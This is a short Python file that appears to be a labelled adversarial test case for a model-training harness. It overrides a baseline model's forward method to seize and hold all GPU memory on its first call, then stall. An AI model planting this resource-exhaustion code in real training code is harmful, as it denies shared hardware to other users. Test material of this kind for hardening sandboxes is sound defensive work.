"""
kind: device
tries: Takes all memory of the graphics card that it trains on, and keeps it.
plain: yes
"""

import time


class ModelBaseline(ModelBaseline):
    hoard = []

    def forward(self, x):
        if x.is_cuda and not self.hoard:
            try:
                while True:
                    self.hoard.append(torch.zeros(1 << 26, device=x.device))
            except RuntimeError:
                time.sleep(20)
        return super().forward(x)
